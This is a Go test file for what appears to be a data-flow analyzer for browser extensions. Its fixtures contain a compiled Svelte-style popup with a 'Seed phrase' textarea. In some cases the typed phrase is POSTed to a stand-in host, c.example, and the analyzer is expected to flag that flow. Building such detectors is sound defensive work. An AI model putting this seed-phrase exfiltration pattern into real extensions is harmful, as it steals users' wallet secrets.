package analysis

import (
	"strings"
	"testing"
)

// Svelte 4 compiles a component to functions that one of its library starts. It is long, and names nothing of interest.
func TestStartOfComponent(t *testing.T) {
	long := strings.Repeat(" if (first) first.last = first.last + 1;", 30)
	library := `let current; function listen(n, e, h) { n.addEventListener(e, h); return () => n.removeEventListener(e, h) }
function start(component, options, instance, create, differs, first) {` + long + `
const own = component.own = {fragment: null, ctx: [], dirty: [-1]};
own.ctx = instance ? instance(component, options.props || {}, (i, v) => { if (own.ctx && differs(own.ctx[i], own.ctx[i] = v)) own.dirty[0] |= 1 << i; return v }) : [];
own.fragment = create ? create(own.ctx) : false; if (options.target) { own.fragment.c(); own.fragment.m(options.target) } }
function create(ctx) { let t, b; return {c() { t = document.createElement("textarea"); b = document.createElement("button"); t.placeholder = "Seed phrase" }, m(to) { to.append(t, b); listen(t, "input", ctx[2]); listen(b, "click", ctx[1]) }} }
class App { constructor(options) { start(this, options, instance, create, (a, b) => a != b) } }
`
	for _, c := range []struct {
		instance string
		want     bool
	}{
		{`let text = ""; async function save() { await fetch("https://c.example/", {method: "POST", body: text}) } function input() { text = this.value; changed(0, text) }`, true},
		{`let text = ""; async function save() { await fetch("https://c.example/", {method: "POST", body: text}) } function input() { text = this.value.length; changed(0, text) }`, false},
		{`let {done} = props, text = ""; function save() { done({text}) } function input() { text = this.value; changed(0, text) }` + long, true},
		{`let {done} = props, text = ""; function save() { done({text: text.length}) } function input() { text = this.value; changed(0, text) }` + long, false},
	} {
		r := analyzed(t, map[string]string{
			"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "action": {"default_popup": "p.html"}}`,
			"p.html":        `<body><script src="p.js"></script>`,
			"p.js": library + `function instance(self, props, changed) {` + strings.ReplaceAll(c.instance, "first", "self") + ` return [text, save, input] }
				new App({target: document.body, props: {done: x => fetch("https://c.example/", {method: "POST", body: JSON.stringify(x)})}})`,
		})
		if got := hasFlow(r, "seed_input", "fetch", "c.example"); got != c.want {
			t.Errorf("%s: %v, flows %v", c.instance, got, r.Flows)
		}
	}
}

// Functions of the engine's own, such as what a promise is settled with, have no code to look at.
func TestStartWithFunctionsWithoutCode(t *testing.T) {
	long := "let n = 0;" + strings.Repeat(" n = n * 3 + 1; if (n > 9) n = 1;", 20)
	r := background(t, "bg.js", `function drive(o, ok, no) {`+long+` o.kept = ok(n) }
		new Promise((ok, no) => drive({}, ok, no)).then(x => fetch("https://c.example/" + x))`)
	if !r.Complete {
		t.Errorf("problems %v", r.Problems)
	}
}
